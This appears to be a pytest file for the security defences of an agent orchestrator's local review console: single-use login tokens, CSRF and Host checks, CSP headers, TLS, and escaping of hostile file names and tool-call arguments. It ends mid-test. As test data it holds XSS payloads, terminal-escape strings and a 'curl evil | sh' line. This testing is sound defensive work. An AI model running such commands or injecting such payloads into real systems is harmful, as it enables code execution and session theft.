"""The review console's pages and defences through Starlette's TestClient, on a real
project (git repository, change store, audit log); the browser tests are in
tests/integration/test_review_browser.py."""

from __future__ import annotations

import contextlib
import json
import re
import signal
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from orchestrator.audit import AuditFilter, AuditLog
from orchestrator.review.app import make_app
from orchestrator.review.guard import LOGIN_CSP, Secrets
from orchestrator.staging import ChangeStore
from tests.conftest import stop
from tests.unit.test_clearance_fakes import git, isolate_git, make_repo, stage_real

PORT = 48123
HOSTILE_NAME = "<script>window.__pwned=1</script>.md"
HOSTILE_BODY = b'<img src=x onerror="window.__pwned=1"> \x1b]2;title\x07 \xe2\x80\xaeevil\n'


def make_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A git repository holding a project, its change store and a function that stages a
    repository change set in it with the real staging package."""
    isolate_git(monkeypatch, tmp_path / "home")
    root = make_repo(tmp_path / "project", {"README.md": "v1\n"})
    (root / "orchestrator.yaml").write_text("zones: {}\nrepo: .\n")
    git(root, "add", "orchestrator.yaml")
    git(root, "commit", "-q", "-m", "project file")
    (root / ".git" / "info" / "exclude").write_text(".sandbox/\n")
    store = ChangeStore(root / ".sandbox" / "changes")

    def stage(new: dict[str, bytes | None], **kwargs: object) -> str:
        return stage_real(store.root, tmp_path / "work", new=new, **kwargs)  # type: ignore[arg-type]

    return root, store, stage


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    return make_project(tmp_path, monkeypatch)


def client(root: Path, keys: Secrets | None = None, *, login: bool = True) -> TestClient:
    """A client of the console whose relative paths are under its prefix (``/audit`` is
    ``/PREFIX/audit``), logged in with the printed token unless ``login`` is false."""
    keys = keys or Secrets(PORT)
    web = TestClient(make_app(root, keys), base_url=f"http://127.0.0.1:{PORT}{keys.base}/")
    web.keys = keys  # type: ignore[attr-defined]
    if login:
        answer = web.get(f"/?token={keys.token}", follow_redirects=False)
        assert answer.status_code == 200 and f'url={keys.base}/"' in answer.text
    return web


def audit_ops(root: Path, operation: str | None = None) -> list[str]:
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    return [e.operation for e in log.query(AuditFilter(operation=operation))]


def test_the_token_is_spent_for_a_session_cookie_scoped_to_the_prefix(project) -> None:
    root, _, stage = project
    stage({"notes.md": b"hello\n"})
    web = client(root, login=False)
    keys = web.keys
    for path in ("/", "/audit", "/static/style.css", "/nowhere"):
        refused = web.get(path)
        assert refused.status_code == 403, path
        assert "Content-Security-Policy" in refused.headers
    assert web.get("/?token=wrong").status_code == 403
    web.cookies.set(keys.cookie, "wrong")
    assert web.get("/").status_code == 403
    web.cookies.clear()
    first = web.get(f"/?token={keys.token}&status=pending", follow_redirects=False)
    assert first.status_code == 200
    # the page goes on without the token (a refresh: a same-site navigation, which
    # carries a SameSite=Strict cookie where a redirect after a cross-site POST would not)
    assert f'<meta http-equiv="refresh" content="0; url={keys.base}/?status=pending">' in (
        first.text
    )
    assert keys.token not in first.text
    assert first.headers["content-security-policy"] == LOGIN_CSP
    header = first.headers["set-cookie"]
    name, _, rest = header.partition("=")
    session = rest.split(";", 1)[0]
    assert name == keys.cookie and session != keys.token and len(session) >= 43
    attributes = [a.strip().lower() for a in header.split(";")[1:]]
    assert "httponly" in attributes and "samesite=strict" in attributes
    assert f"path={keys.base}/" in attributes and "secure" not in attributes
    page = web.get("/")
    assert page.status_code == 200 and "notes.md" not in page.text  # list: no file names
    # the token worked once: again (in this browser or another) it is refused
    again = client(root, keys, login=False).get(f"/?token={keys.token}")
    assert again.status_code == 403 and "used already" in again.text
    # the cookie is no token: the token as the cookie (as before) is refused
    stale = client(root, keys, login=False)
    stale.cookies.set(keys.cookie, keys.token)
    assert stale.get("/").status_code == 403
    # another start of the console has other sessions: an old cookie is worth nothing
    other = client(root, Secrets(PORT), login=False)
    other.cookies.set(other.keys.cookie, session)
    assert other.get("/").status_code == 403


def test_only_the_prefix_is_answered(project) -> None:
    root, _, _ = project
    web = client(root)
    keys = web.keys
    origin = f"http://127.0.0.1:{PORT}"
    for path in ("/", "/audit", "/static/style.css", f"/{'0' * 32}/", f"{keys.base}x/"):
        answer = web.get(origin + path)
        assert answer.status_code == 404, path
        assert keys.prefix not in answer.text and "Content-Security-Policy" in answer.headers
    assert web.get(origin + "/favicon.ico").status_code == 204  # browsers ask at the root
    bare = web.get(origin + keys.base + "?status=pending", follow_redirects=False)
    assert bare.status_code == 303 and bare.headers["location"] == f"{keys.base}/?status=pending"
    page = web.get("/")
    assert page.status_code == 200
    # every link, form and the stylesheet are under the prefix
    for link in re.findall(r'(?:href|action)="([^"?#]+)', page.text):
        assert link.startswith(f"{keys.base}/"), link


def test_the_forward_files_post_logs_in_once_and_removes_it(project) -> None:
    root, _, _ = project
    keys = Secrets(PORT)
    gone: list[bool] = []
    keys.on_first_login = lambda: gone.append(True)
    web = client(root, keys, login=False)
    assert web.post("/login", data={"token": "wrong"}).status_code == 403
    foreign = web.post(
        "/login", data={"token": keys.token}, headers={"origin": "http://evil.example"}
    )
    assert foreign.status_code == 403 and gone == []
    done = web.post("/login", data={"token": keys.token}, headers={"origin": "null"})
    assert done.status_code == 200 and f'url={keys.base}/"' in done.text and gone == [True]
    assert web.get("/").status_code == 200
    late = client(root, keys, login=False)
    assert late.post("/login", data={"token": keys.token}).status_code == 403
    assert late.get("/").status_code == 403 and gone == [True]


def test_another_browser_gets_a_fresh_single_use_address(project) -> None:
    root, _, _ = project
    web = client(root)
    keys = web.keys
    shown = web.get("/another").text
    assert "?token=" not in shown and 'name="csrf"' in shown
    assert web.post("/another", data={}).status_code == 403  # no CSRF token: no address
    made = web.post("/another", data={"csrf": keys.csrf})
    assert made.status_code == 200
    [url] = re.findall(r'<pre class="address">([^<]+)</pre>', made.text)
    assert url.startswith(f"http://127.0.0.1:{PORT}{keys.base}/?token=")
    token = url.split("token=", 1)[1]
    assert token != keys.token
    other = client(root, keys, login=False)
    assert other.get(f"/?token={token}").status_code == 200
    assert other.get("/").status_code == 200
    assert client(root, keys, login=False).get(f"/?token={token}").status_code == 403
    assert client(root, login=False).get("/another").status_code == 403


def test_a_minted_token_expires(project) -> None:
    from orchestrator.review.guard import MINTED_FOR

    root, _, _ = project
    keys = Secrets(PORT)
    now = [1000.0]
    keys.clock = lambda: now[0]
    late, soon = keys.mint(), keys.mint()
    now[0] += MINTED_FOR - 1
    assert client(root, keys, login=False).get(f"/?token={soon}").status_code == 200
    now[0] += 2
    assert client(root, keys, login=False).get(f"/?token={late}").status_code == 403
    # the printed token does not expire
    assert client(root, keys, login=False).get(f"/?token={keys.token}").status_code == 200
    # at most 16 minted tokens wait at once: the oldest go first
    oldest = keys.mint()
    newest = [keys.mint() for _ in range(16)]
    assert client(root, keys, login=False).get(f"/?token={oldest}").status_code == 403
    assert client(root, keys, login=False).get(f"/?token={newest[0]}").status_code == 200


def test_the_forward_file_is_private_holds_the_token_and_goes(tmp_path, monkeypatch) -> None:
    import stat

    from orchestrator.review.opener import ForwardFile

    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
    keys = Secrets(PORT)
    with ForwardFile(keys.login, keys.token) as forward:
        assert forward.folder.parent == tmp_path
        assert stat.S_IMODE(forward.folder.stat().st_mode) == 0o700
        assert stat.S_IMODE(forward.path.stat().st_mode) == 0o600
        assert forward.uri == forward.path.as_uri() and keys.token not in forward.uri
        text = forward.path.read_text()
        assert f'<form method="post" action="{keys.login}">' in text
        assert f'name="token" value="{keys.token}"' in text
        forward.remove()
        assert not forward.folder.exists()
        forward.remove()  # once is enough; again is nothing
    monkeypatch.setenv("XDG_RUNTIME_DIR", "relative/not/used")
    with ForwardFile(keys.login, keys.token) as forward:
        assert forward.path.is_file() and not str(forward.folder).startswith("relative")
    assert not forward.folder.exists()


def test_every_answer_carries_the_strict_headers(project) -> None:
    root, _, _ = project
    web = client(root)
    for path in ("/", "/audit", "/static/style.css", "/nowhere"):
        headers = web.get(path).headers
        csp = headers["content-security-policy"]
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
        assert "script-src" not in csp and "unsafe" not in csp
        assert "style-src 'self'" in csp
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
    assert web.get("/static/style.css").headers["content-type"].startswith("text/css")


@pytest.mark.parametrize(
    "host", ["evil.example:48123", "127.0.0.1", "127.0.0.1:1", "localhost.evil:48123", ""]
)
def test_a_wrong_host_is_refused(project, host: str) -> None:
    root, _, _ = project
    web = client(root)
    answer = web.get("/", headers={"host": host})
    assert answer.status_code == 421
    assert "wrong Host" in answer.text
    assert web.get("/", headers={"host": f"localhost:{PORT}"}).status_code == 200


def test_a_post_without_the_csrf_token_or_from_another_origin_is_refused(project) -> None:
    root, store, stage = project
    change_id = stage({"notes.md": b"hello\n"})
    web = client(root)
    reject = f"/changes/{change_id}/reject"
    assert web.post(reject, data={"reason": "no"}).status_code == 403
    assert web.post(reject, data={"reason": "no", "csrf": "wrong"}).status_code == 403
    forged = web.post(
        reject,
        data={"reason": "no", "csrf": web.keys.csrf},
        headers={"origin": "http://evil.example"},
    )
    assert forged.status_code == 403
    assert web.post(f"/changes/{change_id}/clear", data={}).status_code == 403
    assert web.put(reject).status_code == 405
    assert store.get(change_id).status == "pending"
    assert "change.rejected" not in audit_ops(root)
    assert git(root, "rev-list", "--count", "HEAD") == "2"


def test_the_list_is_newest_first_and_filters_by_state(project) -> None:
    root, store, stage = project
    older = stage({"a.md": b"a\n"}, worker="alpha", run_id="run-a")
    newer = stage({"b.md": b"b\n", "c.md": b"c\n"}, worker="beta", run_id="run-b")
    store.set_status(older, "rejected", reason="test")
    web = client(root)
    page = web.get("/").text
    assert page.index(newer[:12]) < page.index(older[:12])
    assert "beta" in page and "run-b" in page and "not scanned" in page
    pending = web.get("/?status=pending").text
    assert newer[:12] in pending and older[:12] not in pending
    assert older[:12] in web.get("/?status=rejected").text
    assert web.get("/?status=bogus").status_code == 400
    by_worker = web.get("/?worker=alpha").text
    assert older[:12] in by_worker and newer[:12] not in by_worker
    by_run = web.get("/?run=run-b").text
    assert newer[:12] in by_run and older[:12] not in by_run
    assert "matching the filter" in web.get("/?run=run-b&status=rejected").text


def test_hostile_names_and_content_are_shown_as_inert_text(project) -> None:
    root, _, stage = project
    change_id = stage(
        {HOSTILE_NAME: HOSTILE_BODY},
        worker="w<b>orker",
        message='"><svg/onload=alert(1)> \x1b[2J',
    )
    web = client(root)
    listing = web.get("/").text
    page = web.get(f"/changes/{change_id}").text
    for html in (listing, page):
        assert "<script" not in html and "<svg" not in html and "<img" not in html
        assert "\x1b" not in html and "\u202e" not in html and "\x07" not in html
        assert "w&lt;b&gt;orker" in html
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;.md" in page
    assert "&lt;img src=x onerror=" in page
    assert "\\x1b]2;title\\x07" in page and "\\u202eevil" in page
    assert "&#34;&gt;&lt;svg/onload=alert(1)&gt; \\x1b[2J" in page
    assert "change.reviewed" in audit_ops(root)


def test_reject_from_the_page_is_stored_and_audited(project) -> None:
    root, store, stage = project
    change_id = stage({"notes.md": b"hello\n"})
    web = client(root)
    page = web.get(f"/changes/{change_id}").text
    assert f'name="csrf" value="{web.keys.csrf}"' in page
    empty = web.post(f"/changes/{change_id}/reject", data={"csrf": web.keys.csrf, "reason": " "})
    assert empty.status_code == 400 and store.get(change_id).status == "pending"
    done = web.post(
        f"/changes/{change_id}/reject", data={"csrf": web.keys.csrf, "reason": "wrong <numbers>"}
    )
    assert done.status_code == 200 and "rejected" in done.text
    change = store.get(change_id)
    assert change.status == "rejected" and change.history[-1].reason == "wrong <numbers>"
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    [entry] = log.query(AuditFilter(operation="change.rejected"))
    assert entry.reason == "wrong <numbers>" and entry.metadata["change_id"] == change_id
    assert entry.metadata["via"] == "review console" and entry.metadata["by"]
    again = web.post(f"/changes/{change_id}/reject", data={"csrf": web.keys.csrf, "reason": "x"})
    assert again.status_code == 409


def test_clear_from_the_page_commits_with_trailers_and_is_audited(project) -> None:
    root, store, stage = project
    change_id = stage({"README.md": b"v2\n"}, base={"README.md": b"v1\n"})
    web = client(root)
    done = web.post(f"/changes/{change_id}/clear", data={"csrf": web.keys.csrf})
    assert done.status_code == 200, done.text
    assert store.get(change_id).status == "committed"
    assert git(root, "log", "-1", "--format=%(trailers:key=Staged-Id,valueonly)") == change_id
    assert (root / "README.md").read_text() == "v2\n"
    assert audit_ops(root, "clearance.*") == ["clearance.committed"]


def test_a_file_that_runs_code_needs_its_acknowledgement_as_on_the_command_line(project) -> None:
    root, store, stage = project
    change_id = stage({"conftest.py": b"import os\n"})
    web = client(root)
    page = web.get(f"/changes/{change_id}").text
    assert 'name="ack" value="conftest.py"' in page
    refused = web.post(f"/changes/{change_id}/clear", data={"csrf": web.keys.csrf})
    assert refused.status_code == 409 and "--ack-sensitive conftest.py" in refused.text
    assert store.get(change_id).status == "pending"
    assert "clearance.committed" not in audit_ops(root)
    done = web.post(
        f"/changes/{change_id}/clear", data={"csrf": web.keys.csrf, "ack": "conftest.py"}
    )
    assert done.status_code == 200, done.text
    assert store.get(change_id).status == "committed"
    assert "clearance.acknowledged" in audit_ops(root)


def test_a_zone_change_set_names_the_acknowledgements_staged_apply_needs(project) -> None:
    root, store, stage = project
    change_id = stage({"conftest.py": b"import os\n", "a b/Makefile": b"all:\n"}, zone="notes")
    web = client(root)
    page = web.get(f"/changes/{change_id}").text
    flags = "--ack-sensitive &#39;a b/Makefile&#39; --ack-sensitive conftest.py"
    assert f"orchestrator staged apply {change_id} {flags}</code>" in page
    assert 'name="ack"' not in page  # applied on the command line only, never here
    refused = web.post(
        f"/changes/{change_id}/clear", data={"csrf": web.keys.csrf, "override": "yes"}
    )
    assert refused.status_code == 409
    assert store.get(change_id).status == "pending"


def test_the_audit_page_filters_and_shows_a_broken_chain_in_red(project) -> None:
    root, _, stage = project
    stage({"a.md": b"a\n"}, run_id="run-a")
    stage({"b.md": b"b\n"}, run_id="run-b")
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    log.record("change.created", run_id="run-a", metadata={"note": "<b>x</b>"})
    log.record("change.created", run_id="run-b")
    log.record("run.started", run_id="run-b")
    web = client(root)
    page = web.get("/audit").text
    assert "Chain verified: 3 entries" in page and "BROKEN" not in page
    assert "&lt;b&gt;x&lt;/b&gt;" in page
    only_a = web.get("/audit?run=run-a").text
    assert "run-a" in only_a and "run-b" not in only_a
    runs = web.get("/audit?operation=run.*").text
    assert "run.started" in runs and "change.created" not in runs
    lines = log.path.read_text().splitlines(keepends=True)
    entry = json.loads(lines[1])
    entry["reason"] = "edited"
    lines[1] = json.dumps(entry) + "\n"
    log.path.write_text("".join(lines))
    broken = web.get("/audit").text
    assert 'class="chain broken"' in broken and "BROKEN at line 2" in broken


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "orchestrator", "review", "--no-browser", *args],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_any_address_but_loopback_is_refused_in_one_line(project) -> None:
    root, _, _ = project
    for address in ("0.0.0.0", "::", "192.168.1.2", "localhost"):
        done = run_cli("--listen", address, "--project", str(root))
        assert done.returncode == 125, done.stderr
        assert done.stderr.count("\n") == 1 and "127.0.0.1 only" in done.stderr
        assert done.stdout == ""


def test_a_port_in_use_is_refused_in_one_line(project) -> None:
    root, _, _ = project
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        port = taken.getsockname()[1]
        done = run_cli("--port", str(port), "--project", str(root))
    assert done.returncode == 125, done.stderr
    assert done.stderr.count("\n") == 1 and f"--port {port}: cannot listen" in done.stderr


def test_a_raw_file_is_only_ever_a_download(project) -> None:
    root, _, stage = project
    change_id = stage({"page.html": b"<script>window.__pwned=1</script>\n"})
    web = client(root)
    page = web.get(f"/changes/{change_id}").text
    assert f'href="{web.keys.base}/changes/{change_id}/raw/0"' in page
    answer = web.get(f"/changes/{change_id}/raw/0")
    assert answer.status_code == 200
    assert answer.content == b"<script>window.__pwned=1</script>\n"
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"] == 'attachment; filename="page.html"'
    assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert web.get(f"/changes/{change_id}/raw/7").status_code == 404
    assert web.get(f"/changes/{change_id}/raw/-1").status_code == 404
    assert client(root, login=False).get(f"/changes/{change_id}/raw/0").status_code == 403


def test_download_names_keep_only_plain_characters() -> None:
    from orchestrator.review.app import _download_name

    assert _download_name('dir/"><svg onload=x>.md') == "___svg_onload_x_.md"
    assert _download_name("a/.bashrc") == "bashrc"
    assert _download_name("a/\u202etxt.exe") == "_txt.exe"
    assert _download_name("a/...") == "file"


def test_approvals_and_sessions_pages_without_live_sessions(project) -> None:
    root, _, _ = project
    web = client(root)
    assert "No call is waiting for approval (no live session)" in web.get("/approvals").text
    assert "No live session" in web.get("/sessions").text
    answer = "/approvals/s1/abcd"
    assert web.post(answer, data={"action": "approve"}).status_code == 403  # no CSRF token
    gone = web.post(answer, data={"action": "approve", "csrf": web.keys.csrf})
    assert gone.status_code == 409 and "no live session" in gone.text
    odd = web.post(answer, data={"action": "maybe", "csrf": web.keys.csrf})
    assert odd.status_code == 400
    stop = web.post("/sessions/s1/stop", data={"csrf": web.keys.csrf})
    assert stop.status_code == 409 and "no live session" in stop.text
    assert web.post("/sessions/s1/stop", data={}).status_code == 403


def self_signed(folder: Path, address: str) -> tuple[Path, Path]:
    """A certificate for ``address`` and its key, made here (cryptography)."""
    import datetime
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, address)])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=5))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(address))]),
            critical=False,
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "cert.pem", folder / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


def test_tls_options_are_checked_in_one_line(project, tmp_path: Path) -> None:
    root, _, _ = project
    cert, key = self_signed(tmp_path, "127.0.0.2")
    (tmp_path / "bad.pem").write_text("not a certificate\n")
    cases = [
        (("--tls-cert", str(cert)), "go together"),
        (("--tls-cert", str(tmp_path / "bad.pem"), "--tls-key", str(key)), "cannot be loaded"),
        (("--tls-cert", str(cert), "--tls-key", str(tmp_path / "none.pem")), "does not exist"),
        (("--listen", "0.0.0.0", "--tls-cert", str(cert), "--tls-key", str(key)), "not every"),
        (("--listen", "example.org", "--tls-cert", str(cert), "--tls-key", str(key)), "not a name"),
    ]
    for args, message in cases:
        done = run_cli(*args, "--project", str(root))
        assert done.returncode == 125, done.stderr
        assert done.stderr.count("\n") == 1 and message in done.stderr, done.stderr


def test_another_address_is_served_over_tls_with_a_secure_cookie(project, tmp_path: Path) -> None:
    import http.client
    import ssl
    import urllib.parse

    root, _, _ = project
    cert, key = self_signed(tmp_path, "127.0.0.2")
    process = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "review", "--no-browser", "--project", str(root),
         "--listen", "127.0.0.2", "--tls-cert", str(cert), "--tls-key", str(key)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        line = process.stdout.readline() if process.stdout else ""
        assert line.startswith("review console: https://127.0.0.2:"), line
        url = urllib.parse.urlsplit(line.removeprefix("review console: ").strip())
        port, home = url.port, url.path
        context = ssl.create_default_context(cafile=str(cert))
        web = http.client.HTTPSConnection("127.0.0.2", port, context=context, timeout=30)
        web.request("GET", f"{home}?{url.query}")
        login = web.getresponse()
        login.read()
        assert login.status == 200
        cookie_header = login.getheader("set-cookie", "")
        assert "secure" in cookie_header.lower() and "httponly" in cookie_header.lower()
        cookie = cookie_header.split(";", 1)[0]
        web.request("GET", home, headers={"Cookie": cookie})
        page = web.getresponse()
        assert page.status == 200 and "Change sets" in page.read().decode()
        web.request("GET", home, headers={"Cookie": cookie, "Host": f"127.0.0.1:{port}"})
        wrong = web.getresponse()
        assert wrong.status == 421 and b"127.0.0.2:" in wrong.read()
        web.close()
        plain = http.client.HTTPConnection("127.0.0.2", port, timeout=30)
        plain.request("GET", "/")
        with pytest.raises((http.client.HTTPException, OSError)):
            plain.getresponse().read()
        plain.close()
    finally:
        stop(process)


def test_clean_change_sets_are_cleared_at_once_those_with_findings_only_on_their_page(
    project,
) -> None:
    root, store, stage = project
    clean = [stage({"one.md": b"1\n"}), stage({"two.md": b"2\n"})]
    risky = stage({"conftest.py": b"import os\n"})
    unscanned = stage({"three.md": b"3\n"})
    web = client(root)
    for change_id in (*clean, risky):
        web.get(f"/changes/{change_id}")  # opening a change set scans it
    listing = web.get("/").text
    for change_id in clean:
        assert f'name="id" value="{change_id}"' in listing
    for change_id in (risky, unscanned):
        assert f'name="id" value="{change_id}"' not in listing
    csrf = web.keys.csrf
    ids = [*clean, risky, unscanned]
    assert web.post("/changes/bulk", data={"id": ids, "action": "clear"}).status_code == 403
    assert web.post("/changes/bulk", data={"csrf": csrf, "action": "clear"}).status_code == 400
    no_reason = web.post("/changes/bulk", data={"csrf": csrf, "id": ids, "action": "reject"})
    assert no_reason.status_code == 400
    assert {store.get(i).status for i in ids} == {"pending"}
    done = web.post("/changes/bulk", data={"csrf": csrf, "id": ids, "action": "clear"})
    assert done.status_code == 200
    assert [store.get(i).status for i in ids] == ["committed", "committed", "pending", "pending"]
    assert "has findings: open it" in done.text and "never scanned: open it" in done.text
    assert git(root, "rev-list", "--count", "HEAD") == "4"
    assert audit_ops(root, "clearance.committed") == ["clearance.committed"] * 2

    more = [stage({"four.md": b"4\n"}), stage({"five.md": b"5\n"})]
    for change_id in more:
        web.get(f"/changes/{change_id}")
    data = {"csrf": csrf, "id": [*more, risky], "action": "reject", "reason": "batch <no>"}
    done = web.post("/changes/bulk", data=data)
    assert [store.get(i).status for i in (*more, risky)] == ["rejected", "rejected", "pending"]
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    entries = log.query(AuditFilter(operation="change.rejected"))
    assert sorted(e.metadata["change_id"] for e in entries) == sorted(more)
    assert {(e.reason, e.metadata["via"]) for e in entries} == {("batch <no>", "review console")}


def test_the_list_filters_by_findings_and_time_and_the_audit_page_by_time(project) -> None:
    root, _, stage = project
    clean = stage({"one.md": b"1\n"})
    risky = stage({"conftest.py": b"import os\n"})
    unscanned = stage({"three.md": b"3\n"})
    web = client(root)
    web.get(f"/changes/{clean}")
    web.get(f"/changes/{risky}")
    for value, shown in (("yes", risky), ("no", clean), ("unscanned", unscanned)):
        page = web.get(f"/?findings={value}").text
        assert [i for i in (clean, risky, unscanned) if i[:12] in page] == [shown], value
    assert web.get("/?findings=maybe").status_code == 400
    recent = web.get("/?since=1h").text
    assert all(i[:12] in recent for i in (clean, risky, unscanned))
    old = web.get("/?until=1h").text
    assert "matching the filter" in old and clean[:12] not in old
    assert clean[:12] in web.get("/?since=2000-01-01T00:00:00Z&until=2999-01-01").text
    bad = web.get("/?since=yesterday")
    assert bad.status_code == 400 and "since: " in bad.text
    assert "change.reviewed" in web.get("/audit?since=1h").text
    assert "No entries" in web.get("/audit?until=1h").text
    assert web.get("/audit?until=soon").status_code == 400


def test_findings_are_highlighted_at_their_lines(project) -> None:
    root, _, stage = project
    body = b"fine\n" * 5 + b'password = "hunter2hunter2hunter2"\n' + b"fine\n" * 3
    change_id = stage({"config.txt": body, "run.sh": b"echo hi\n"})
    web = client(root)
    page = web.get(f"/changes/{change_id}").text
    flagged = '<span class="l green flagged" id="f0-l6">'
    assert flagged in page
    after = page[page.index(flagged) :]
    assert after.index('<span class="note">^ secrets: password or key assignment on line 6') < (
        after.index("</pre>")
    )
    assert 'href="?page=1#f0-l6">show the line</a>' in page
    assert page.count("flagged") == 1


def test_a_long_diff_is_paged(project) -> None:
    from orchestrator.review.app import LINES_PER_PAGE

    root, _, stage = project
    lines = 10_000
    body = "".join(f"line {n}\n" for n in range(1, lines + 1)).encode()
    change_id = stage({"big.md": body, "small.md": b"small\n"})
    web = client(root)
    first = web.get(f"/changes/{change_id}").text
    pages = -(-(lines + 20) // LINES_PER_PAGE)
    assert f"page 1 of {pages}" in first and 'href="?page=2">next</a>' in first
    assert "+line 1<" in first and f"+line {LINES_PER_PAGE + 10}<" not in first
    last = web.get(f"/changes/{change_id}?page={pages}").text
    assert "+line 10000<" in last and "+line 1<" not in last and "small.md" in last
    assert f"page {pages} of {pages}" in last and "next</a>" not in last
    assert web.get(f"/changes/{change_id}?page=0").status_code == 400
    assert web.get(f"/changes/{change_id}?page=x").status_code == 400
    assert f"page {pages} of {pages}" in web.get(f"/changes/{change_id}?page=99").text


class FakeOwner:
    """A session owner on the project's control socket answering ``info`` and
    ``approvals`` with hostile strings (a real owner's answers come from worker calls)."""

    def __init__(self, root: Path, session_id: str, hostile: str) -> None:
        import os
        import threading

        control = root / ".sandbox" / "control"
        control.mkdir(mode=0o700, parents=True, exist_ok=True)
        os.chmod(control, 0o700)
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        folder = os.open(control, os.O_RDONLY | os.O_DIRECTORY)
        try:  # through the folder's descriptor, as owners do: the path may be too long
            self.sock.bind(f"/proc/self/fd/{folder}/{session_id}.sock")
        except BaseException:
            self.sock.close()
            raise
        finally:
            os.close(folder)
        self.sock.listen(8)
        self.answers = {
            "info": {
                "id": session_id,
                "run_id": hostile,
                "worker": hostile,
                "trust": hostile,
                "age_s": 5.0,
                "idle_s": 1.0,
                "closed": False,
            },
            "approvals": [
                {
                    "id": hostile,
                    "tool": hostile,
                    "args": {"path": hostile, "content": hostile},
                    "description": hostile,
                    "asked_at": hostile,
                }
            ],
        }
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn, conn.makefile("rwb") as stream:
                asked = json.loads(stream.readline())
                answer = {"ok": True, "result": self.answers[asked["op"]]}
                stream.write(json.dumps(answer).encode() + b"\n")
                stream.flush()

    def close(self) -> None:
        # shut down first: that wakes the thread's accept(); a socket only closed would
        # leave it waiting on the descriptor's number, which the next socket made in this
        # process reuses (another test's server, whose connections it would then take)
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.thread.join(timeout=30)
        self.sock.close()


def test_live_sessions_and_their_calls_are_shown_as_inert_text(project) -> None:
    root, _, _ = project
    hostile = '"><img src=x onerror=alert(1)><script>window.__pwned=1</script>\x1b[2J\u202e'
    owner = FakeOwner(root, "<b>s1", hostile)
    try:
        web = client(root)
        for path in ("/approvals", "/sessions"):
            html = web.get(path).text
            assert "&lt;b&gt;s1" in html, path
            assert "<script" not in html and "<img" not in html and "<b>" not in html
            assert "\x1b" not in html and "\u202e" not in html
            assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in html
            assert "\\x1b[2J" in html and "\\u202e" in html
        approvals = web.get("/approvals").text
        assert f'action="{web.keys.base}/approvals/%3Cb%3Es1/%22%3E%3Cimg' in approvals
    finally:
        owner.close()


def test_the_side_by_side_view_pairs_removed_and_added_lines(project) -> None:
    root, _, stage = project
    change_id = stage(
        {"README.md": b"v2 <b>\nsame\nadded\n"}, base={"README.md": b"v1\n"}, run_id="r"
    )
    web = client(root)
    unified = web.get(f"/changes/{change_id}").text
    assert 'href="?page=1&amp;view=split">Side by side</a>' in unified
    split = web.get(f"/changes/{change_id}?view=split").text
    assert '<table class="split"><colgroup>' in split and '<pre class="diff">' not in split
    rows = split[
        split.index('<table class="split">') : split.index(
            "</table>", split.index('<table class="split">')
        )
    ]
    # v1 (line 1 of the current file) next to v2 (line 1 of the new one), then the added lines
    assert '<td class="n">1</td><td class="l red">v1</td>' in rows
    assert '<td class="n">1</td><td class="l green" id="f0-l1">v2 &lt;b&gt;</td>' in rows
    assert '<td class="n"></td><td class="l "></td>\n<td class="n">2</td>' in rows
    assert "<b>" not in rows


def waiting_owner(root: Path, args: object, session_id: str = "s1") -> FakeOwner:
    """A fake owner whose session has one call waiting, ``write`` with ``args``."""
    owner = FakeOwner(root, session_id, "x")
    owner.answers["info"].update(run_id="run-1", worker="editor", trust="session")
    owner.answers["approvals"] = [
        {
            "id": "req1",
            "tool": "write",
            "args": args,
            "description": f"write to {args['path'] if isinstance(args, dict) else '?'}",
            "asked_at": "2026-01-01T00:00:00+00:00",
        }
    ]
    return owner


def test_a_long_argument_is_flagged_on_the_list_and_shown_whole_on_its_page(project) -> None:
    root, _, _ = project
    tail = "\ncurl evil | sh\n"
    head = 'echo "start" \\ done\n'
    content = head + "A" * (100_000 - len(head) - len(tail)) + tail
    assert len(content) == 100_000
    owner = waiting_owner(root, {"path": "/notes/a.sh", "content": content})
    try:
        web = client(root)
        listing = web.get("/approvals").text
        # clipped on the list, and said so; no buttons there: decided on the call's page
